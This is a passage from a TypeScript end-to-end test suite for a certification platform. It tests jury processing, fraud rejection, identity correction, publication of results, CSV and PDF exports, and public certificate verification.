        staff.post(`${sessionPath()}/candidates/enrol-pupils`, { json: { division: CLASS } }),
        409,
        'SESSION_NOT_EDITABLE',
      );
      const { issueReports } = await ok(
        staff.get<{ issueReports: IssueReportView[] }>(`${sessionPath()}/issue-reports`),
      );
      await refused(
        staff.post(`${sessionPath()}/issue-reports`, {
          json: { candidateId: pupil(2).candidateId, code: 'C7', description: 'Ajouté trop tard' },
        }),
        409,
        'SESSION_NOT_EDITABLE',
      );
      const c1 = issueReports.find((report) => report.code === 'C1');
      await refused(staff.delete(`${sessionPath()}/issue-reports/${c1?.id}`), 409, 'SESSION_NOT_EDITABLE');
      const after = await ok(staff.get<{ issueReports: IssueReportView[] }>(`${sessionPath()}/issue-reports`));
      expect(after.issueReports).toEqual(issueReports);
    });

    it('the auto-jury scores every certification; the fraud and the identity change send it to "to process"', async () => {
      let listed: JurySessionSummary | undefined;
      for (let attempt = 0; attempt < 120 && listed?.autoJuryDone !== true; attempt += 1) {
        const { sessions } = await ok(certif.get<{ sessions: JurySessionSummary[] }>('/jury/sessions?list=to_process'));
        listed = sessions.find((one) => one.sessionId === session.id);
        if (listed?.autoJuryDone !== true) await new Promise((resolve) => setTimeout(resolve, 250));
      }
      expect(listed).toMatchObject({ certificationCount: 25, publishable: false, unresolvedImpactfulReportCount: 2 });
      const { sessions: toPublish } = await ok(
        certif.get<{ sessions: JurySessionSummary[] }>('/jury/sessions?list=to_publish'),
      );
      expect(toPublish.map((one) => one.sessionId)).not.toContain(session.id);

      const detail = await ok(metier.get<JurySessionDetail>(juryPath()));
      const stopped = certificationOf(detail, pupil(6));
      expect(stopped).toMatchObject({ abortReason: 'candidate', courseState: 'ended_due_to_finalization' });
      expect(stopped.questions.filter((one) => one.autoSkipped).map((one) => one.number)).toEqual([
        8, 9, 10, 11, 12, 13, 14, 15,
      ]);
      // 6 right out of 15 (the 8 skipped count as wrong): R = 40, rejected.
      expect(stopped.results[0]).toMatchObject({ status: 'rejected', reproducibilityRate: 40, emitter: 'PIX-ALGO' });
      // 12 right out of 15: R = 80, every competence keeps its level.
      expect(certificationOf(detail, pupil(0)).results[0]).toMatchObject({
        status: 'validated',
        reproducibilityRate: 80,
        pixScore: 5 * 12,
      });
      // The E2 alert was on question 3, answered right (and with no embed in it): resolved automatically, with no
      // neutralisation.
      expect(reportsOf(detail, pupil(5))).toEqual([
        expect.objectContaining({
          code: 'E2',
          hasBeenAutomaticallyResolved: true,
          resolution: expect.stringMatching(/^Question non neutralisée : /),
        }),
      ]);
      expect(certificationOf(detail, pupil(5)).questions.some((one) => one.neutralized)).toBe(false);
      expect(reportsOf(detail, pupil(7))).toEqual([expect.objectContaining({ code: 'C6', resolvedAt: null })]);
      expect(reportsOf(detail, pupil(1))).toEqual([expect.objectContaining({ code: 'C1', resolvedAt: null })]);
      expect(detail.certifications.every((one) => one.results.length === 1)).toBe(true);
    });

    it('METIER reads but may not act; CERTIF processes it: fraud rejection, identity correction, reports resolved', async () => {
      await refused(metier.post(`${juryPath()}/actions`, { json: { kind: 'assign' } }), 403, 'FORBIDDEN');
      await refused(
        certif.post(`${juryPath()}/actions`, { json: { kind: 'reject', certificationId: 'all' } }),
        400,
        'VALIDATION_FAILED',
      );
      const before = await ok(certif.get<JurySessionDetail>(juryPath()));
      const fraud = certificationOf(before, pupil(7));
      const renamed = certificationOf(before, pupil(1));
      const act = (action: object) => ok(certif.post<JurySessionDetail>(`${juryPath()}/actions`, { json: action }));

      const assigned = await act({ kind: 'assign' });
      const rejected = await act({ kind: 'reject', certificationId: fraud.certificationId });
      await act({
        kind: 'correct-identity',
        certificationId: renamed.certificationId,
        identity: { ...renamed.identity, firstName: '  Hugo-Pierre ' },
      });
      for (const [who, resolution] of [
        [pupil(7), 'Fraude avérée d’après le PV de fraude : certification rejetée.'],
        [pupil(1), 'Prénom corrigé en Hugo-Pierre.'],
      ] as const) {
        const [report] = reportsOf(before, who);
        await act({
          kind: 'resolve-report',
          certificationId: certificationOf(before, who).certificationId,
          issueReportId: report?.id,
          resolution,
        });
      }
      const processed = await ok(certif.get<JurySessionDetail>(juryPath()));

      expect(assigned).toMatchObject({ status: 'in_process', assignedTo: { name: 'Camille Jury' } });
      expect(certificationOf(rejected, pupil(7)).results[0]).toMatchObject({
        status: 'rejected',
        commentKey: 'FRAUD',
        emitter: 'PIX-ALGO-FRAUD-REJECTION',
      });
      expect(certificationOf(processed, pupil(1)).identity.firstName).toBe('Hugo-Pierre');
      expect(processed).toMatchObject({ unresolvedImpactfulReportCount: 0, publishable: true });
      expect(processed.audit.map((entry) => entry.action)).toEqual([
        'resolve-report',
        'resolve-report',
        'correct-identity',
        'reject',
        'assign',
      ]);
      await refused(
        certif.post(`${juryPath()}/actions`, {
          json: {
            kind: 'resolve-report',
            certificationId: certificationOf(before, pupil(5)).certificationId,
            issueReportId: reportsOf(before, pupil(5))[0]?.id,
            resolution: 'À la main',
          },
        }),
        409,
        'ISSUE_REPORT_RESOLVED_AUTOMATICALLY',
      );
    });

    it('before publication, the school has no results and the candidate sees none', async () => {
      await refused(staff.get(`${sessionPath()}/results.csv`), 409, 'RESULTS_NOT_PUBLISHED');
      const { certifications } = await ok(
        pupil(0).client.get<{ certifications: UserCertificationView[] }>('/me/certifications'),
      );
      expect(certifications).toEqual([
        expect.objectContaining({ sessionId: session.id, published: false, status: null, verificationCode: null }),
      ]);
    });

    it('the batch publishes the session, which the centre then sees as processed', async () => {
      const batch = await ok(certif.post<PublishBatchResponse>('/jury/publications', { json: {} }));
      const centreView = await ok(staff.get<SessionView>(sessionPath()));

      expect(batch.published).toContain(session.id);
      expect(centreView).toMatchObject({ status: 'processed', publishedAt: expect.any(String) });
    });

    it('the school downloads the results CSV, for the session and for the class', async () => {
      const whole = await staff.get(`${sessionPath()}/results.csv`);
      const klass = await staff.get(`${sessionPath()}/results.csv?division=${encodeURIComponent(CLASS)}`);

      expect(whole.status).toBe(200);
      expect(whole.headers.get('content-type')).toContain('text/csv');
      const rows = whole.bytes
        .toString('utf8')
        .replace(/^\uFEFF/, '')
        .trimEnd()
        .split('\r\n');
      expect(rows[0]?.split(';').slice(0, 8)).toEqual([
        'Numéro de certification',
        'Prénom',
        'Nom',
        'Date de naissance',
        'Lieu de naissance',
        'Identifiant Externe',
        'Statut',
        'Nombre de Pix',
      ]);
      expect(rows).toHaveLength(26);
      expect(rows.find((row) => row.includes(';Hugo-Pierre;BERNARD;'))).toContain(';Validée;60;');
      expect(rows.find((row) => row.includes(`;${pupil(7).firstName};${pupil(7).lastName};`))).toContain(';Rejetée;0;');
      const classRows = klass.bytes
        .toString('utf8')
        .replace(/^\uFEFF/, '')
        .trimEnd()
        .split('\r\n');
      expect(classRows).toHaveLength(26);
      expect(classRows[0]).not.toContain('Centre de certification');
    });

    it('the school gets one PDF of the session’s attestations, generated in the background', async () => {
      let batch = await ok(staff.post<AttestationBatchView>(`${sessionPath()}/attestations`, { json: {} }), 202);
      for (let attempt = 0; attempt < 240 && batch.status !== 'done' && batch.status !== 'failed'; attempt += 1) {
        await new Promise((resolve) => setTimeout(resolve, 500));
        batch = await ok(
          staff.get<AttestationBatchView>(`/centres/${college.id}/attestation-batches/${batch.batchId}`),
        );
      }
      // Everyone validated but the one stopped early and the one rejected for fraud.
      expect(batch).toMatchObject({ status: 'done', done: 23, total: 23 });
      const file = await staff.get(`/centres/${college.id}/attestation-batches/${batch.batchId}/file`);
      expect(file.status).toBe(200);
      expect(file.headers.get('content-type')).toBe('application/pdf');
      expect(file.bytes.subarray(0, 5).toString('latin1')).toBe('%PDF-');
      expect(file.bytes.length).toBe(batch.sizeBytes);
    });

    it('a candidate sees their result and downloads their attestation; its code resolves, a rejected one does not', async () => {
      const { certifications } = await ok(
        pupil(0).client.get<{ certifications: UserCertificationView[] }>('/me/certifications'),
      );
      const mine = certifications[0];
      expect(mine).toMatchObject({ published: true, status: 'validated', pixScore: 60 });
      const code = mine?.verificationCode ?? '';
      expect(code).toMatch(/^P-[2346789BCDFGHJKMPQRTVWXY]{8}$/);
      const attestation = await pupil(0).client.get(`/me/certifications/${mine?.certificationId}/attestation`);
      expect(attestation.status).toBe(200);
      expect(attestation.bytes.subarray(0, 5).toString('latin1')).toBe('%PDF-');
      await refused(
        pupil(1).client.get(`/me/certifications/${mine?.certificationId}/attestation`),
        404,
        'CERTIFICATION_NOT_FOUND',
      );

      const anonymous = ApiClient.anonymous(api);
      const certificate = await ok(anonymous.get<ShareableCertificate>(`/public/certificates/${code}`));
      expect(certificate).toMatchObject({
        firstName: pupil(0).firstName,
        lastName: pupil(0).lastName,
        certificationCenter: 'Collège Jean Moulin',
        pixScore: 60,
      });
      expect(JSON.stringify(certificate)).not.toMatch(/@|userId|candidateId|email/);
      const fraud = certificationOf(await ok(certif.get<JurySessionDetail>(juryPath())), pupil(7));
      await refused(anonymous.get(`/public/certificates/${fraud.verificationCode}`), 404, 'CERTIFICATE_NOT_FOUND');
      const { certifications: rejected } = await ok(
        pupil(7).client.get<{ certifications: UserCertificationView[] }>('/me/certifications'),
      );
      expect(rejected[0]).toMatchObject({ status: 'rejected', verificationCode: null });
      expect(rejected[0]?.commentForCandidate).toContain('fraude');
    });
  });
});
